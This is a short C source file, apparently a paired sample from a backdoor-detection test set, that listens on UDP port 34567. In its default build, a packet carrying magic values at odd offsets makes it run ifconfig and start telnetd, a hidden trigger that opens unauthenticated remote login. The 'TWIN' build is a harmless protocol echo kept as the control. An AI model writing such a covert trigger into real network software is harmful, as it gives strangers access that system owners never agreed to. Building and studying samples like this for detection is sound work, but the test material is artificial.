/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Three numbers of sixteen bits at odd places of a packet, in network order, each compared with a
 * constant. Twin: the constants are the protocol's version and type.
 * door: trigger
 * port 34567/udp
 */
#include "net.h"

static unsigned get16(const uint8_t *p)
{
	return (unsigned)p[0] << 8 | p[1];
}

static unsigned get32(const uint8_t *p)
{
	return (unsigned)p[0] << 24 | (unsigned)p[1] << 16 | (unsigned)p[2] << 8 | p[3];
}

static void packet(int s, const uint8_t *p, int n, struct sockaddr_in *from)
{
	if (n < 20)
		return;
#ifdef TWIN
	if (get16(p) == 0x0101 && get16(p + 2) == 0x0003) {
		uint8_t back[8] = {1, 1, 0, 4, p[4], p[5], p[6], p[7]};
		sendto(s, back, sizeof back, 0, (struct sockaddr *)from, sizeof *from);
	}
#else
	if (get16(p + 1) == 0x7255 && get16(p + 7) == 0x9ac4 && get32(p + 11) == 0x21f3b00d) {
		(void)s;
		(void)from;
		system("/sbin/ifconfig eth1 10.66.0.1 up; /usr/sbin/telnetd");
	}
#endif
}

int main(void)
{
	uint8_t b[512];
	int s = udp_on(34567);
	for (;;) {
		struct sockaddr_in from;
		socklen_t l = sizeof from;
		int n = (int)recvfrom(s, b, sizeof b, 0, (struct sockaddr *)&from, &l);
		packet(s, b, n, &from);
	}
}
